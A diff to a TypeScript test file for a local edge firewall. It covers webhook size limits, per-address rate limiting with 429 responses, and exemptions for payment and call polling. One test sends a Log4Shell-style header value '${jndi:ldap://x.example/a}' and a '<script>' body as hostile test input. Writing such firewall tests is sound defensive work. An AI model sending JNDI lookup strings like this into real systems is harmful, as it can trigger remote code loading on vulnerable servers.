@@ -2,6 +2,8 @@ import { request } from "node:http";
 import { expect, test } from "vitest";
 import { makeFirewall, type FirewallRequest } from "#infra/local/edge/firewall.ts";
 import * as api from "#shared/contract/api.ts";
+import { readPaymentStatus, readVoiceCall, sendContactMessage } from "#shared/contract/api.ts";
+import { functionEndpoints } from "#shared/contract/endpoints.ts";
 import type { Endpoint } from "#shared/contract/endpoint.ts";
 import { errorBodySchema } from "#shared/contract/error-body.ts";
 import { edition } from "#test/support/edition/worker-edition.ts";
@@ -40,16 +42,21 @@ test.each([
   expect((await send("GET", path)).status).toBe(200);
 });
 
+const webhookBytesMax = 256 * 1024;
+
 test("[OPS-01] a webhook's content and path are not looked at, only how large it is and how often it comes", async () => {
+  const webhook = functionEndpoints.find(
+    ({ forwardsAllHeaders, maxBodyBytes }) => forwardsAllHeaders && maxBodyBytes === webhookBytesMax,
+  );
   const post = async (bytes: number, text = "") =>
     (
-      await fetch(`${edition.origin}${api.receivePaymentWebhook.path}`, {
+      await fetch(`${edition.origin}${webhook?.path}`, {
         method: "POST",
         headers: { "x-note": "${jndi:ldap://x.example/a}" },
         body: text + "x".repeat(bytes),
       })
     ).status;
-  expect([await post(0, "<script>"), await post(256 * 1024), await post(256 * 1024 + 1)]).toEqual([
+  expect([await post(0, "<script>"), await post(webhookBytesMax), await post(webhookBytesMax + 1)]).toEqual([
     401, 401, 413,
   ]);
 });
@@ -65,10 +72,11 @@ const admittedOf = async (count: number, path: string, address?: string) => {
 };
 
 test("[OPS-01] [CONT-03] above an endpoint's rate an address gets 429 with Retry-After in the one error body, others do not", async () => {
-  const { path, ratePerAddress } = api.sendContactMessage;
+  const { path, ratePerAddress } = sendContactMessage;
   expect(await admittedOf(ratePerAddress.requests + 5, path, "192.0.2.1")).toBe(ratePerAddress.requests);
   expect(await admittedOf(1, path, "192.0.2.2")).toBe(1);
-  expect(await admittedOf(1, api.createPayment.path, "192.0.2.1")).toBe(1);
+  for (const other of functionEndpoints.filter((row) => row.path !== path).slice(0, 1))
+    expect(await admittedOf(1, other.path, "192.0.2.1")).toBe(1);
   const refused = await fetch(`${edition.origin}${path}`, {
     headers: { "CloudFront-Viewer-Address": "192.0.2.1:4712" },
   });
@@ -80,7 +88,7 @@ test("[OPS-01] [CONT-03] above an endpoint's rate an address gets 429 with Retry
 });
 
 test("[OPS-03] this machine's own requests are not counted", async () => {
-  expect(await admittedOf(20, api.sendContactMessage.path)).toBe(20);
+  expect(await admittedOf(20, sendContactMessage.path)).toBe(20);
 });
 
 const plain: FirewallRequest = {
@@ -108,17 +116,19 @@ test("[OPS-01] each endpoint counts for itself, and what is none shares one coun
 
 test("[PAY-03] [VOICE-03] whoever waits for a payment or watches a call is never refused, nor are four more behind the address", () => {
   const firewall = makeFirewall(() => 0);
-  const asksIn5Minutes = { payment: 30, call: 90 };
+  const asksIn5Minutes = [
+    [readPaymentStatus.path, 30],
+    [readVoiceCall.path, 90],
+  ] as const;
   const refusedOf = (path: string, count: number) =>
     Array.from({ length: count }, () => firewall({ ...plain, path })).filter((answer) => answer !== undefined)
       .length;
-  expect(refusedOf(api.readPaymentStatus.path, 5 * asksIn5Minutes.payment)).toBe(0);
-  expect(refusedOf(api.readVoiceCall.path, 5 * asksIn5Minutes.call)).toBe(0);
+  for (const [path, asks] of asksIn5Minutes) expect(refusedOf(path, 5 * asks)).toBe(0);
 });
 
 test("[PAY-03] a provider that tells all at once what it could not tell for hours is not refused", () => {
   const firewall = makeFirewall(() => 0);
-  const webhooks = [api.receivePaymentWebhook, api.receiveWhatsappWebhook, api.receiveVoiceWebhook];
+  const webhooks = functionEndpoints.filter(({ forwardsAllHeaders }) => forwardsAllHeaders);
   const refused = webhooks.flatMap(({ path }) =>
     Array.from({ length: 15_000 }, () => firewall({ ...plain, path })).filter(
       (answer) => answer !== undefined,
